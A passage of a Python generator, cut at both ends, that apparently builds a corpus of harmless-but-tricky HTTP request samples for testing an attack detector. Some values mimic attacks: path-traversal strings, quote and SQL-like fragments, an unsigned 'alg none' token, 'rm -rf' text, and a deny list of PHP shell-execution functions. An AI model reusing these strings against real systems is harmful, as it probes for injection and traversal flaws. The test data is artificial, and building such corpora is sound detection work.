            B(
                b64u(cd.encode()),
                "json",
                ep="/api/auth/webauthn/finish",
                doc={
                    "id": b64u(R.randbytes(16)),
                    "response": {
                        "clientDataJSON": MARK,
                        "authenticatorData": b64u(R.randbytes(37)),
                        "signature": b64u(R.randbytes(70)),
                    },
                },
            )
        )
    for i in range(5):
        N.append(
            B(
                base64.b64encode(R.randbytes(R.randint(120, 300))).decode(),
                "json",
                param="ciphertext",
                ep="/api/vault/secrets",
            )
        )
    saml = (
        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" '
        'IssueInstant="2026-12-07T22:58:11Z" Destination="https://app.example.com/saml/acs"><saml:Issuer>https://idp.example.org</saml:Issuer>'
        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_%s">'
        "<saml:Subject><saml:NameID>ana.silva@example.com</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"
    ) % (rand_hex(32), rand_hex(32))
    H += [
        B(
            base64.b64encode(saml.encode()).decode(),
            "form",
            ep="/saml/acs",
            fields=[("SAMLResponse", MARK), ("RelayState", "/dashboard")],
        ),
        B(
            "ssh-ed25519 "
            + base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + R.randbytes(32)).decode()
            + " ana@laptop",
            "json",
            param="publicKey",
            ep="/api/user/keys",
        ),
        B(
            "-----BEGIN PUBLIC KEY-----\n"
            + "\n".join(base64.b64encode(R.randbytes(270)).decode()[i : i + 64] for i in range(0, 360, 64))
            + "\n-----END PUBLIC KEY-----\n",
            "json",
            param="pem",
            ep="/api/integrations/keys",
        ),
        B(
            base64.b64encode(
                b'<html><body><h1>Your order has shipped</h1><p>Track it <a href="https://shop.example.com/t/1042">here</a>.</p></body></html>'
            ).decode(),
            "json",
            ep="/api/mail/templates",
            doc={"name": "shipped", "htmlBase64": MARK},
        ),
        B(
            base64.b64encode(b"SELECT id, email FROM customers WHERE created_at > now() - interval '1 day';").decode(),
            "json",
            param="queryB64",
            ep="/api/analytics/saved",
        ),
        B(
            base64.b64encode(b"#!/bin/sh\necho 'hello from cloud-init'\napt-get update -y\n").decode(),
            "json",
            param="userData",
            ep="/api/v1/instances",
        ),
        B(
            b64u(compact({"alg": "none"}).encode()) + "." + b64u(compact({"preview": True, "doc": 42}).encode()) + ".",
            "query",
            param="preview_token",
            ep="/docs/preview",
        ),
        B(
            "eyJfcGVybWFuZW50Ijp0cnVlLCJ1c2VyX2lkIjo0Mn0.Z1S4dw." + b64u(R.randbytes(20)),
            "cookie",
            ck="session",
            ep="/dashboard",
        ),
        B(
            base64.b64encode(compact({"flags": {"newCheckout": True, "betaSearch": False}, "v": 3}).encode()).decode(),
            "cookie",
            ck="ff",
            ep="/",
        ),
        B(base64.b64encode(b"../../shared/template.docx").decode(), "query", param="ref", ep="/api/v1/files"),
        B(
            base64.b64encode(b"apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n").decode(),
            "json",
            param="manifest",
            ep="/api/k8s/apply",
        ),
        B(
            base64.b64encode("${HOME}/.config/app/settings.json".encode()).decode(),
            "json",
            param="pathB64",
            ep="/api/sync",
        ),
        B(
            "data:image/svg+xml;base64,"
            + base64.b64encode(
                b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#e53935"/></svg>'
            ).decode(),
            "json",
            param="icon",
            ep="/api/labels",
        ),
        B(
            "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8YIIGOAYJKoZIhvcSAQICAQBuggYnMIIG"
            + rand_alnum(40),
            "header",
            hdr="Authorization",
            ep="/intranet/",
        ),
        B(
            base64.b64encode(R.randbytes(90)).decode().replace("+", "-").replace("/", "_"),
            "header",
            hdr="X-Client-Data",
            ep="/",
        ),
        B("AQICAHh" + base64.b64encode(R.randbytes(150)).decode(), "json", param="encryptedKey", ep="/api/kms/decrypt"),
        B(
            base64.b64encode(b"id,name\n1,<b>bold</b>\n2,Tom & Jerry\n").decode(),
            "json",
            ep="/api/v1/attachments",
            doc={"filename": "names.csv", "contentType": "text/csv", "data": MARK},
        ),
        B(
            b64u(compact({"iss": "https://accounts.example.com", "nonce": rand_hex(16)}).encode()),
            "query",
            param="state",
            ep="/auth/callback",
        ),
        B(
            "sha256-" + base64.b64encode(hashlib.sha256(b"console.log('ok')").digest()).decode(),
            "json",
            param="integrity",
            ep="/api/assets",
        ),
        B(
            base64.b64encode(b"{{ user.first_name }}, your code is {{ code }}").decode(),
            "json",
            param="bodyB64",
            ep="/api/sms/templates",
        ),
        B(
            base64.b64encode(b"\x0a\x07example\x12\x04\x08\x01\x10\x02" + R.randbytes(20)).decode(),
            "json",
            param="protoPayload",
            ep="/api/v1/ingest",
        ),
        B(
            "v=1;" + base64.b64encode(R.randbytes(24)).decode() + "==;exp=1765209600",
            "cookie",
            ck="edge_auth",
            ep="/video/",
        ),
        B(
            base64.b64encode(b"user=ana&role=viewer&exp=1765209600").decode(),
            "query",
            param="sig_data",
            ep="/share/doc",
        ),
        B(
            b64u(compact({"alg": "ES256", "typ": "dpop+jwt"}).encode())
            + "."
            + b64u(compact({"htm": "POST", "htu": "https://api.example.com/token", "iat": 1765100000}).encode())
            + "."
            + b64u(R.randbytes(64)),
            "header",
            hdr="DPoP",
            ep="/token",
            style="api",
        ),
    ]
    return H, N


FIRST = [
    "Ana",
    "Wei",
    "Priya",
    "Lukas",
    "Sofia",
    "Mateo",
    "Aisha",
    "Jonas",
    "Yuki",
    "Olga",
    "Liam",
    "Fatima",
    "Noah",
    "Chloé",
    "Søren",
    "Zoë",
    "Mohammed",
    "Ines",
    "Kenji",
    "Marta",
]
LAST = [
    "Silva",
    "Li",
    "Patel",
    "Müller",
    "Rossi",
    "García",
    "Khan",
    "Berg",
    "Tanaka",
    "Ivanova",
    "Murphy",
    "Haddad",
    "Smith",
    "Dubois",
    "Jørgensen",
    "O'Connor",
    "Nguyen",
    "Kowalski",
    "van der Berg",
    "Smith-Jones",
]
CITIES = [
    ("Amsterdam", "1012 JS", "NL"),
    ("Berlin", "10115", "DE"),
    ("Lisbon", "1100-148", "PT"),
    ("Austin", "78701", "US"),
    ("Toronto", "M5V 2T6", "CA"),
    ("Kraków", "31-001", "PL"),
    ("Osaka", "530-0001", "JP"),
    ("Dublin", "D02 X285", "IE"),
    ("Lyon", "69002", "FR"),
    ("São Paulo", "01310-100", "BR"),
]


def gen_api_json():
    H, N = [], []
    for i in range(14):
        c = R.choice(CITIES)
        N.append(
            B(
                compact(
                    {
                        "line1": "%d %s"
                        % (
                            R.randint(1, 240),
                            R.choice(
                                ["Keizersgracht", "Main Street", "Rua Augusta", "Oak Avenue", "Rue de la République"]
                            ),
                        ),
                        "city": c[0],
                        "postalCode": c[1],
                        "country": c[2],
                    }
                ),
                "json",
                jobj=True,
                param="shippingAddress",
                ep="/api/v2/orders",
            )
        )
    for i in range(12):
        items = [
            {"sku": "SKU-%05d" % R.randint(1, 99999), "qty": R.randint(1, 4), "price": round(R.uniform(2, 300), 2)}
            for _ in range(R.randint(1, 3))
        ]
        N.append(B(compact(items), "json", jobj=True, param="items", ep="/api/v2/cart"))
    for i in range(10):
        prefs = {
            "theme": R.choice(["dark", "light", "system"]),
            "language": R.choice(["en", "de", "pt-BR", "ja"]),
            "notifications": {
                "email": R.choice([True, False]),
                "push": R.choice([True, False]),
                "digest": R.choice(["daily", "weekly", "never"]),
            },
        }
        N.append(B(compact(prefs), "json", jobj=True, param="preferences", ep="/api/users/me"))
    for i in range(10):
        N.append(
            B(
                "%s %s" % (R.choice(FIRST), R.choice(LAST)),
                "json",
                param=R.choice(["displayName", "fullName", "name"]),
                ep="/api/users/me",
            )
        )
    for i in range(8):
        N.append(
            B(
                compact(
                    {
                        "lat": round(R.uniform(-60, 70), 6),
                        "lng": round(R.uniform(-170, 170), 6),
                        "accuracy": R.randint(3, 60),
                    }
                ),
                "json",
                jobj=True,
                param="location",
                ep="/api/v1/checkins",
            )
        )
    H += [
        B(
            '[{"op":"replace","path":"/email","value":"ana@example.com"},{"op":"remove","path":"/nickname"}]',
            "json",
            jobj=True,
            ep="/api/users/88",
            doc=MARK,
            method="PATCH",
            ctype="application/json-patch+json",
        ),
        B(
            "$schema",
            "json_key",
            ep="/api/v1/forms",
            doc={
                KMARK: "https://json-schema.org/draft/2020-12/schema",
                "type": "object",
                "properties": {"email": {"type": "string", "format": "email"}},
            },
        ),
        B(
            "$ref",
            "json_key",
            ep="/api/v1/forms",
            doc={
                "definitions": {"address": {"type": "object"}},
                "properties": {"billing": {KMARK: "#/definitions/address"}},
            },
        ),
        B(
            "@context",
            "json_key",
            ep="/api/v1/events",
            doc={
                KMARK: "https://schema.org",
                "@type": "Event",
                "name": "Winter meetup",
                "startDate": "2026-12-15T18:00",
            },
        ),
        B(
            '{"@type":"Organization","name":"Northwind Traders","url":"https://northwind.test"}',
            "json",
            jobj=True,
            param="publisher",
            ep="/api/cms/pages",
        ),
        B("filters[title][$containsi]", "query_key", kval="winter", ep="/api/articles"),
        B("filter[status][_eq]", "query_key", kval="published", ep="/items/posts"),
        B('{"where":{"price":{"gt":10}},"order":"price ASC","limit":20}', "query", param="filter", ep="/api/products"),
        B(
            '{"$in":["open","pending"]}',
            "json",
            jobj=True,
            ep="/api/v1/tickets/search",
            doc={"filter": {"status": MARK}, "limit": 50},
        ),
        B(
            "status = Open AND assignee = currentUser() ORDER BY updated DESC",
            "json",
            param="jql",
            ep="/rest/api/3/search",
        ),
        B("-created_at", "query", param="sort", ep="/api/v2/orders"),
        B(
            "SELECT count(*) FROM events WHERE type = 'signup'",
            "json",
            param="query",
            ep="/api/analytics/saved-queries",
        ),
        B("npm run build && npm test", "json", param="command", ep="/api/ci/jobs"),
        B("backup.sh --full --target s3://acme-backups/nightly", "json", param="script", ep="/api/scheduler/tasks"),
        B(
            '{"and":[{"field":"country","op":"eq","value":"NL"},{"field":"age","op":"gte","value":18}]}',
            "json",
            jobj=True,
            param="rule",
            ep="/api/segments",
        ),
        B("price * quantity - discount", "json", param="expression", ep="/api/sheets/columns"),
        B("../reports/2026", "json", param="prefix", ep="/api/storage/list"),
        B("<p>Welcome!</p>", "json", param="html", ep="/api/cms/blocks"),
        B("admin'", "json", param="username_check", ep="/api/signup/availability"),
        B("exec-summary", "json", param="slug", ep="/api/cms/pages"),
        B("drop-off", "json", param="deliveryType", ep="/api/v2/orders"),
        B("system", "json", param="theme", ep="/api/users/me"),
        B(
            '{"query":"winter boots","filters":{"size":[42,43]},"sort":"price_asc"}',
            "json",
            param="savedSearch",
            ep="/api/users/me/searches",
        ),
        B("x-forwarded-for", "json", param="clientIpHeader", ep="/api/settings/proxy"),
        B('{"cmd":"status","target":"printer-3"}', "json", param="message", ep="/api/devices/commands"),
    ]
    return H, N


def gen_forms():
    H, N = [], []
    for i in range(16):
        f, l = R.choice(FIRST), R.choice(LAST)
        N.append(
            B(
                "%s.%s%d@example.com"
                % (
                    f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e"),
                    l.split()[0].lower().replace("'", "").replace("ü", "ue").replace("ø", "o"),
                    R.randint(1, 99),
                ),
                "form",
                ep="/signup",
                fields=[("name", "%s %s" % (f, l)), ("email", MARK), ("password", rand_alnum(14)), ("terms", "on")],
            )
        )
    for i in range(12):
        c = R.choice(CITIES)
        N.append(
            B(
                "%d %s"
                % (
                    R.randint(1, 300),
                    R.choice(
                        ["Herengracht", "Invalidenstraße", "Rua do Ouro", "Congress Ave", "Queen St W", "Floriańska"]
                    ),
                ),
                "form",
                ep="/checkout/address",
                fields=[("address1", MARK), ("city", c[0]), ("postcode", c[1]), ("country", c[2])],
            )
        )
    for i in range(10):
        N.append(
            B(
                R.choice(SENTENCES),
                "form",
                param=R.choice(["comment", "message", "notes", "feedback"]),
                ep=R.choice(["/contact", "/feedback", "/orders/notes"]),
            )
        )
    for i in range(8):
        N.append(
            B(
                "+%d %d %d %04d"
                % (R.choice([31, 49, 351, 1, 44]), R.randint(10, 99), R.randint(100, 999), R.randint(0, 9999)),
                "form",
                param="phone",
                ep="/profile/update",
            )
        )
    for i in range(8):
        N.append(
            B(
                "%s %s" % (R.choice(FIRST), R.choice(["Silva", "Li", "Patel", "Rossi", "Berg", "Tanaka"])),
                "form",
                param="cardholder",
                ep="/checkout/payment",
            )
        )
    H += [
        B(
            "O'Connor",
            "form",
            ep="/signup",
            fields=[("first_name", "Siobhán"), ("last_name", MARK), ("email", "s.oconnor@example.ie")],
        ),
        B("Tr0ub4dor&3", "form", ep="/login", fields=[("username", "lukas.berg"), ("password", MARK)]),
        B(
            "P@ss'w0rd;--2026",
            "form",
            ep="/account/password",
            fields=[("current", "old-Passw0rd!"), ("new", MARK), ("confirm", MARK)],
        ),
        B("AT&T Services, Inc.", "form", param="company", ep="/signup/business"),
        B("Apt #4; Building B", "form", param="address2", ep="/checkout/address"),
        B("Order #1042 -- please hold until Monday", "form", param="notes", ep="/orders/notes"),
        B("Select the 'Express' option if available", "form", param="delivery_instructions", ep="/checkout/shipping"),
        B(
            "Please drop off at the back door (side entrance)",
            "form",
            param="delivery_instructions",
            ep="/checkout/shipping",
        ),
        B("1=1 in the report filter doesn't seem to work?", "form", param="message", ep="/support/ticket"),
        B("Union Street 5, <Unit 3>", "form", param="address1", ep="/checkout/address"),
        B("We use <script> tags in our CMS, will that break the import?", "form", param="question", ep="/contact"),
        B("C:\\Users\\ana\\Documents\\tax-2025.pdf", "form", param="file_path_hint", ep="/support/ticket"),
        B("50% deposit, rest on delivery", "form", param="payment_terms", ep="/quotes/new"),
        B("a+b@example.com", "form", param="email", ep="/newsletter/subscribe"),
        B("José & María's Café", "form", param="business_name", ep="/signup/business"),
        B("Line one\r\nLine two\r\nLine three", "form", param="address_block", ep="/checkout/address"),
        B("SELECT", "form", param="plan_tier", ep="/billing/plan"),
        B("../", "form", param="path_prefix", ep="/settings/storage"),
        B("Nick 'the Knife' O'Neil", "form", param="nickname", ep="/profile/update"),
        B("{{first_name}}", "form", param="greeting_token", ep="/settings/email"),
        B("<3 thanks team!", "form", param="comment", ep="/feedback"),
        B("DROP-OFF @ 5pm; ring twice", "form", param="notes", ep="/orders/notes"),
        B("rm -rf old backups please", "form", param="message", ep="/support/ticket"),
        B(
            "user[name]",
            "form",
            key=True,
            kval="Ana",
            ep="/users/42",
            fields=[("_method", "patch"), (KMARK, "Ana"), ("user[email]", "ana@example.com")],
        ),
        B(
            "order[items][0][qty]",
            "form",
            key=True,
            kval="2",
            ep="/cart/update",
            fields=[(KMARK, "2"), ("order[items][0][sku]", "A-1001")],
        ),
    ]
    return H, N


def gen_headers():
    H, N = [], []
    extra_uas = [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 358.0.0.20.104",
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0",
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    ]
    for ua in extra_uas:
        N.append(
            B(ua, "header", hdr="User-Agent", ep=R.choice(["/", "/blog/", "/products", "/robots.txt", "/sitemap.xml"]))
        )
    for lang in [
        "en-US,en;q=0.9,fr;q=0.8,de;q=0.7",
        "zh-CN,zh;q=0.9,en;q=0.8",
        "da,en-GB;q=0.9,en;q=0.8",
        "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
        "ar-SA,ar;q=0.9,en;q=0.8",
        "fi-FI,fi;q=0.9,sv;q=0.8,en;q=0.7",
    ]:
        N.append(B(lang, "header", hdr="Accept-Language"))
    for i in range(6):
        N.append(B('W/"%s"' % rand_hex(R.choice([16, 32])), "header", hdr="If-None-Match", ep="/api/v1/catalog"))
    for i in range(6):
        N.append(
            B(
                "00-%s-%s-01" % (rand_hex(32), rand_hex(16)),
                "header",
                hdr="traceparent",
                style="api",
                ep="/api/v2/orders",
            )
        )
    for i in range(5):
        N.append(
            B(
                "%d.%d.%d.%d, 10.0.%d.%d"
                % (
                    R.randint(1, 223),
                    R.randint(0, 255),
                    R.randint(0, 255),
                    R.randint(1, 254),
                    R.randint(0, 255),
                    R.randint(1, 254),
                ),
                "header",
                hdr="X-Forwarded-For",
            )
        )
    for i in range(6):
        N.append(
            B("GA1.1.%d.%d" % (R.randint(100000000, 2147483647), R.randint(1700000000, 1765000000)), "cookie", ck="_ga")
        )
    for i in range(5):
        N.append(
            B(
                "bytes=%d-%d" % (i * 1048576, (i + 1) * 1048576 - 1),
                "header",
                hdr="Range",
                ep="/media/video/intro-1080p.mp4",
            )
        )
    H += [
        B('"Chromium";v="131", "Not_A Brand";v="24", "Google Chrome";v="131"', "header", hdr="Sec-CH-UA"),
        B('"Microsoft Edge";v="131", "Chromium";v="131", "Not_A Brand";v="24"', "header", hdr="Sec-CH-UA"),
        B("for=192.0.2.60;proto=https;by=203.0.113.43", "header", hdr="Forwarded"),
        B('for="[2001:db8:cafe::17]:4711";proto=https', "header", hdr="Forwarded"),
        B(
            "isGpcEnabled=0&datestamp=Sun+Dec+07+2026+23:12:41+GMT+0100&version=202411.1.0&groups=C0001:1,C0002:0,C0003:1",
            "cookie",
            ck="OptanonConsent",
            mode="raw",
        ),
        B('{"necessary":true,"analytics":false,"marketing":false,"ts":1765145561}', "cookie", ck="cookie_prefs"),
        B("return=representation; handling=strict", "header", hdr="Prefer", style="api", ep="/api/v1/records"),
        B("rojo=00f067aa0ba902b7,congo=t61rcWkgMzE", "header", hdr="tracestate", style="api", ep="/api/v2/orders"),
        B(
            '<https://api.example.com/v1/items?page=3>; rel="next"',
            "header",
            hdr="X-Prev-Link",
            style="api",
            ep="/api/v1/items",
        ),
        B("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "header", hdr="X-Original-Accept", ep="/"),
        B('{"retry": 3, "backoff": "exp"}', "header", hdr="X-Retry-Policy", style="api", ep="/api/v1/jobs"),
        B(
            "PATCH",
            "header",
            hdr="X-HTTP-Method-Override",
            style="api",
            ep="/api/v1/records/88",
            method="POST",
            body=("application/json", '{"status":"closed"}'),
        ),
        B("/api/v1/users?page=2&sort=-created_at", "header", hdr="X-Original-URI", style="api", ep="/api/v1/users"),
        B("sess-" + rand_hex(24), "header", hdr="X-Session-Id", style="api", ep="/api/v1/cart"),
        B(
            "text/plain; charset=utf-8; format=flowed",
            "header",
            hdr="X-Upload-Content-Type",
            style="api",
            ep="/api/v1/uploads",
        ),
        B('W/"0815"', "header", hdr="If-Match", style="api", ep="/api/v1/documents/77"),
        B("max-age=0, no-cache, must-revalidate", "header", hdr="Cache-Control"),
        B("%7B%22cart%22%3A%5B%5D%7D", "header", hdr="X-Cart-State", style="api", ep="/api/v2/cart"),
        B("s:Zk3q9.lWx0GgHn2mVbCwqTQ+4K8yS1", "cookie", ck="connect.sid", mode="full"),
        B("1|ana@example.com|1765145561|admin", "cookie", ck="legacy_auth"),
        B("dark; path=/", "header", hdr="X-Theme-Preference", ep="/"),
        B(
            "Bearer " + fake_jwt({"email": "ana@example.com", "roles": ["admin", "billing"], "name": "Ana O'Neil"}),
            "header",
            hdr="Authorization",
            style="api",
            ep="/api/admin/users",
        ),
        B("../../", "header", hdr="X-Relative-Base", style="api", ep="/api/docs/render"),
        B("curl/8.5.0 (via ci-runner 17)", "header", hdr="X-Client-Info", style="api", ep="/api/ci/report"),
    ]
    return H, N


def gen_email():
    H, N = [], []
    for i in range(18):
        f, l = (
            R.choice(FIRST),
            R.choice(["silva", "li", "patel", "rossi", "berg", "tanaka", "murphy", "khan", "dubois", "nguyen"]),
        )
        fa = f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e")
        addr = R.choice(
            ["%s.%s@example.com", "%s%s@example.org", "%s_%s@mail.example.net", "%s.%s+newsletter@example.co.uk"]
        ) % (fa, l)
        pl = R.choice(["form", "form", "json", "query"])
        if pl == "form":
            N.append(
                B(addr, "form", param="email", ep=R.choice(["/newsletter/subscribe", "/password/forgot", "/invite"]))
            )
        elif pl == "json":
            N.append(
                B(
                    addr,
                    "json",
                    param=R.choice(["email", "recipient", "inviteeEmail"]),
                    ep=R.choice(["/api/v1/invites", "/api/users/me"]),
                )
            )
        else:
            N.append(B(addr, "query", param="email", ep="/unsubscribe"))
    msgs = [
        "Hi team,\n\nCould you resend the invoice for November? Our accounts address changed.\n\nThanks,\nAna",
        "Hello,\n\nI'd like to move my delivery to Thursday if possible.\n\nBest regards,\nLukas",
        "Dear support,\n\nThe app logs me out every few minutes on my iPad. Any ideas?\n\nKind regards,\nYuki",
        "Hi!\n\nJust confirming I'll attend the workshop on the 15th.\n\nCheers,\nLiam",
        "Good morning,\n\nPlease cancel order 10427, it was placed twice by mistake.\n\nMany thanks,\nSofia",
        "Hey,\n\nThe link in your last newsletter goes to a 404 page.\n\nNoah",
        "Hello there,\n\nIs the standing desk available in walnut?\n\nRegards,\nMarta",
        "Hi,\n\nI was charged twice for my subscription this month. Can you refund one?\n\nThanks,\nFatima",
    ]
    for m in msgs:
        N.append(
            B(
                m.replace("\n", "\r\n") if R.random() < 0.5 else m,
                R.choice(["form", "json"]),
                param="message",
                ep=R.choice(["/contact", "/api/support/tickets"]),
            )
        )
    for i in range(14):
        f, l = R.choice(FIRST), R.choice(LAST)
        N.append(
            B(
                "%s %s <%s@example.com>" % (f, l, f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e")),
                "json",
                param=R.choice(["from", "replyTo", "organizer"]),
                ep=R.choice(["/api/mail/drafts", "/api/calendar/events"]),
            )
        )
    H += [
        B(
            "Received: from mail.example.org (mail.example.org [198.51.100.25])\r\n\tby mx.example.com with ESMTPS id 4Y8Qk2\r\n\tfor <ana@example.com>; "
            'Sun, 7 Dec 2026 22:51:03 +0100\r\nFrom: "Billing" <billing@example.org>\r\nTo: ana@example.com\r\nSubject: Your invoice\r\n'
            "Message-ID: <20261207215103.4Y8Qk2@example.org>\r\n\r\nPlease find your invoice attached.\r\n",
            "form",
            param="raw_headers",
            ep="/support/phishing-report",
        ),
        B(
            "From: Jane Doe <jane@example.com>\nTo: team@example.com\nCc: boss@example.com\nSubject: Re: Q4 plan\nDate: Fri, 5 Dec 2026 10:02:11 +0000\n\n"
            "Sounds good, see you Monday.\n",
            "multipart",
            mp="file",
            fname="Re Q4 plan.eml",
            fctype="message/rfc822",
            field="file",
            ep="/api/mail/import",
        ),
        B("Please bcc my manager (lena.berg@example.com) on the confirmation.", "form", param="message", ep="/contact"),
        B("o'reilly@example.com", "form", param="email", ep="/signup"),
        B('"john.doe"@example.org', "json", param="email", ep="/api/v1/invites"),
        B(
            "ana.silva@example.com, li.wei@example.org; priya.patel@example.net",
            "form",
            param="recipients",
            ep="/share/document",
        ),
        B("Subject: Quarterly review\r\nHi all,\r\nAgenda attached.\r\n", "json", param="draft", ep="/api/mail/drafts"),
        B("=?UTF-8?B?w5xiZXJzaWNodCBEZXplbWJlcg==?=", "json", param="subject_raw", ep="/api/mail/parse"),
        B(
            "Return-Path: <bounces+8812@mailer.example.net>",
            "json",
            param="header_line",
            ep="/api/deliverability/check",
        ),
        B(
            "Hi,\r\n\r\nTo: the whole team\r\nFrom: HR\r\n\r\nHoliday schedule is on the wiki.\r\n",
            "form",
            param="body",
            ep="/announcements/new",
        ),
        B("postmaster@[192.0.2.10]", "form", param="email", ep="/admin/mail/allowlist"),
        B("user@sub.example.co.uk", "query", param="email", ep="/api/v1/email/validate"),
        B(
            "DKIM-Signature: v=1; a=rsa-sha256; d=example.org; s=sel1; h=from:to:subject; bh="
            + base64.b64encode(R.randbytes(32)).decode()
            + ";",
            "json",
            param="header_line",
            ep="/api/deliverability/check",
        ),
        B(
            "MAIL FROM:<noreply@example.com> is rejected by your server with 550 5.7.1, can you check SPF?",
            "form",
            param="message",
            ep="/support/ticket",
        ),
        B(
            "ana@example.com\r\nli.wei@example.org\r\npriya@example.net",
            "form",
            param="bulk_invites",
            ep="/team/invite",
        ),
        B(
            "Reply above this line\n\nOn Fri, Dec 5, 2026 at 9:14 AM Support <help@example.com> wrote:\n> Thanks for reaching out.\n",
            "json",
            param="body",
            ep="/api/support/inbound",
        ),
        B("undisclosed-recipients:;", "json", param="to_header", ep="/api/mail/parse"),
        B('Content-Type: text/plain; charset="utf-8"', "json", param="header_line", ep="/api/mail/parse"),
        B("%s@example.com" % "very.long.local.part.with.dots.and+tags", "form", param="email", ep="/signup"),
        B("Bcc", "form", param="copy_mode", ep="/settings/email"),
        B("<ana@example.com>", "json", param="envelopeFrom", ep="/api/mail/routes"),
        B(
            "IMAP: imap.example.com:993 (SSL), SMTP: smtp.example.com:587 (STARTTLS)",
            "form",
            param="notes",
            ep="/it/requests/new",
        ),
        B("xn--mller-kva@example.de", "form", param="email", ep="/signup"),
        B("support+case-88127@example.com", "json", param="replyTo", ep="/api/support/tickets"),
    ]
    return H, N


def gen_config():
    H, N = [], []
    for i in range(10):
        svc = R.choice(["web", "worker", "api", "scheduler", "frontend"])
        N.append(
            B(
                '[tool.poetry]\nname = "%s-%s"\nversion = "%d.%d.%d"\ndescription = "Internal %s service"\n\n[tool.poetry.dependencies]\npython = "^3.11"\nhttpx = "^0.27"\n'
                % (
                    R.choice(["acme", "northwind", "globex"]),
                    svc,
                    R.randint(0, 3),
                    R.randint(0, 20),
                    R.randint(0, 9),
                    svc,
                ),
                R.choice(["json", "multipart"]),
                param="content",
                mp="file",
                fname="pyproject.toml",
                fctype="application/toml",
                ep="/api/repos/files",
            )
        )
    for i in range(10):
        N.append(
            B(
                "[database]\nhost = db%d.internal\nport = %d\nname = %s\npool_size = %d\n\n[cache]\nttl = %d\n"
                % (
                    R.randint(1, 9),
                    R.choice([5432, 3306]),
                    R.choice(["orders", "crm", "shop"]),
                    R.choice([5, 10, 20]),
                    R.choice([60, 300, 3600]),
                ),
                R.choice(["json", "form"]),
                param="config_ini",
                ep="/admin/settings/advanced",
            )
        )
    for i in range(10):
        N.append(
            B(
                'replicaCount: %d\nimage:\n  repository: registry.example.com/%s\n  tag: "%d.%d.%d"\nresources:\n  limits:\n    cpu: %dm\n    memory: %dMi\n'
                % (
                    R.randint(1, 5),
                    R.choice(["web", "api", "worker"]),
                    R.randint(1, 4),
                    R.randint(0, 30),
                    R.randint(0, 9),
                    R.choice([250, 500, 1000]),
                    R.choice([256, 512, 1024]),
                ),
                "multipart",
                mp="file",
                fname="values.yaml",
                fctype="application/x-yaml",
                field="file",
                ep="/api/deployments/values",
            )
        )
    for i in range(8):
        N.append(
            B(
                "LOG_LEVEL=%s\nFEATURE_NEW_CHECKOUT=%s\nTZ=%s\nPORT=%d\n"
                % (
                    R.choice(["info", "debug", "warn"]),
                    R.choice(["true", "false"]),
                    R.choice(["Europe/Berlin", "UTC", "America/New_York"]),
                    R.choice([3000, 8000, 8080]),
                ),
                "json",
                param="env",
                ep="/api/apps/settings",
            )
        )
    for i in range(6):
        N.append(
            B(
                '{\n  "compilerOptions": {\n    "target": "ES%d",\n    "strict": true,\n    "module": "%s"\n  }\n}\n'
                % (R.choice([2020, 2022]), R.choice(["ESNext", "NodeNext"])),
                "json",
                param="tsconfig",
                ep="/api/repos/files",
            )
        )
    H += [
        B(
            "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test -- --coverage\n",
            "multipart",
            mp="file",
            fname="ci.yml",
            fctype="application/x-yaml",
            field="file",
            ep="/api/repos/files",
        ),
        B(
            "server {\n    listen 80;\n    server_name app.example.com;\n    location /api/ {\n        proxy_pass http://127.0.0.1:8000;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n}\n",
            "json",
            param="nginx_conf",
            ep="/api/support/attachments",
        ),
        B(
            "DATABASE_URL=postgres://app:app@localhost:5432/app_dev\nREDIS_URL=redis://127.0.0.1:6379/0\nSECRET_KEY=change-me\n",
            "form",
            param="env_file",
            ep="/support/ticket",
        ),
        B(
            "disable_functions = exec,passthru,shell_exec,system,proc_open,popen\nallow_url_include = Off\nexpose_php = Off\n",
            "json",
            param="php_ini",
            ep="/api/hosting/php-settings",
        ),
        B(
